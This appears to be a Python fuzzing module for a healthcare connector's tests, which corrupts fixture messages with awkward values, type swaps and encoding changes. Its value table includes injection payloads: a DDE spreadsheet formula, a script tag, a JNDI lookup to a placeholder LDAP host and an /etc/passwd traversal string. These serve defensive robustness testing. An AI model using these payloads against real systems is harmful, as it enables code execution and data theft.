"""A connector's own fixtures made awkward: every value of a sound message becomes, in turn, something that people and systems really send."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

from tests.connectors.zoo.raw import CANARY, NHS

_WORD = re.compile(rb"[A-Za-z0-9\x80-\xff][A-Za-z0-9\x80-\xff.:/@ -]{0,200}")
# What a value becomes; those in which a name stands must not be said back.
VALUES: dict[str, str] = {
    "nothing": "",
    "a name": f"{CANARY} A",
    "blanks": "   ",
    "an odd blank": "\u3000\u00a0\u2003",
    "null as people write it": "NULL",
    "a number": "17",
    "minus one": "-1",
    "an NHS number": NHS,
    "an NHS number that fails": "9990000019",
    "one digit ten times": "1111111111",
    "eleven digits": "99900000180",
    "full-width digits": "９９９００００１８０",
    "30 February": "1900-02-30",
    "30 February in eight digits": "19000230",
    "a date to come": "2099-01-01",
    "a time without end": "9999-12-31T23:59:60+14:00",
    "a date as people write it": "1/2/50",
    "a postcode outside": "BF1 2AA",
    "a formula": "=cmd|' /c calc'!A0",
    "a script": f"<script>{CANARY}</script>",
    "a look-up": "${jndi:ldap://a.example/" + CANARY + "}",
    "quotes": "'\"`",
    "a path": "../../etc/passwd",
    "line ends": "a\r\nb",
    "emoji": "🙂👩‍👩‍👧",
    "right to left": "\u202e" + CANARY + " A",
    "zero width": "\u200b\u200d\ufeff",
    "letters of Welsh": "Ŵŷ ŵŶ â ê î ô û",
    "very long": "x" * 70_000,
    "separators": "|^~\\&",
    "an escape without end": "50% \\ of \\X",
    "yes": "yes",
    "words of crisis": "wants to end her life",
}
_ELEMENTS: tuple[Any, ...] = (None, True, 0, -1.5, [], {}, [None], [[]], {"a": 1}, [CANARY], {"text": CANARY}, 99999999999999999999)  # Any: JSON


def spoilt_words(body: bytes, most: int) -> Iterator[tuple[str, bytes]]:
    """The message with a value in place of one of its words, each value at a different word, so often that all words were met or `most` made."""
    words = list(_WORD.finditer(body))
    for number in range(min(most, max(len(words), len(VALUES)) if words else 0)):
        name = list(VALUES)[number % len(VALUES)]
        found = words[(number * 7) % len(words)]
        yield f"{name} for word {(number * 7) % len(words)}", body[: found.start()] + VALUES[name].encode("utf-8", "surrogatepass") + body[found.end() :]


def spoilt_elements(body: bytes, most: int) -> Iterator[tuple[str, bytes]]:
    """A JSON message with an element of another type in place of one of its own, one left out, one doubled."""
    try:
        sound = json.loads(body)
    except (ValueError, RecursionError):
        return
    paths = list(_paths(sound, ()))
    for number in range(min(most, len(paths) * 2)):
        path = paths[(number * 5) % len(paths)]
        made = json.loads(body)
        holder = made
        for part in path[:-1]:
            holder = holder[part]
        if number % 3 == 0:
            del holder[path[-1]]
        else:
            holder[path[-1]] = _ELEMENTS[number % len(_ELEMENTS)]
        yield f"element {number} of {len(path)} levels", json.dumps(made).encode()


def _paths(node: Any, path: tuple[Any, ...]) -> Iterator[tuple[Any, ...]]:  # Any: JSON
    for name, value in node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ():
        yield (*path, name)
        yield from _paths(value, (*path, name))


def spoilt_wholes(body: bytes) -> Iterator[tuple[str, bytes]]:
    """The whole message cut, doubled, in other encodings, with other line ends."""
    yield from {
        "cut at a third": body[: len(body) // 3],
        "cut at two thirds": body[: 2 * len(body) // 3],
        "without its first byte": body[1:],
        "without its last byte": body[:-1],
        "twice": body + body,
        "with a byte order mark": b"\xef\xbb\xbf" + body,
        "in UTF-16": body.decode("utf-8", "replace").encode("utf-16"),
        "in Latin-1": body.decode("utf-8", "replace").encode("latin-1", "replace"),
        "with NUL between": body.replace(b" ", b"\x00", 1),
        "with CRLF": body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"),
        "with LF for CR": body.replace(b"\r", b"\n"),
        "in capitals": body.upper(),
        "in small letters": body.lower(),
        "backwards": body[::-1],
        "without quotes": body.replace(b'"', b""),
        "without digits": re.sub(rb"[0-9]", b"", body),
    }.items()
